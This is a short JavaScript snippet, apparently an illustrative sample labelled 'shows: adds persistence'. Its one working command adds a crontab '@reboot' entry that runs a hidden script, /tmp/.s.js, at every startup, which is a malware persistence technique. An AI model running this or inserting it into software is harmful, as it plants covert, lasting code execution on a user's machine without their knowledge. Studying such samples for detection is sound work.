// shows: adds persistence
const { exec } = require("child_process");
exec('(crontab -l 2>/dev/null; echo "@reboot node /tmp/.s.js") | crontab -');
